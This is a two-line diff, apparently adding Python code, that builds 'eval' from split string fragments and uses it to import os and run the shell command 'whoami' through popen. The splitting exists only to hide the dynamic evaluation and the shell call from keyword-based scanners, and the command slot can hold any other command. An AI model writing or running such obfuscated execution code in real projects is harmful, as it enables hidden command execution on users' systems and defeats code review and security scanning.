@@ -1,0 +1,2 @@
+fn = getattr(__builtins__, "ev" + "al")
+fn("__imp" + "ort__('o' + 's').popen('whoami').read()")
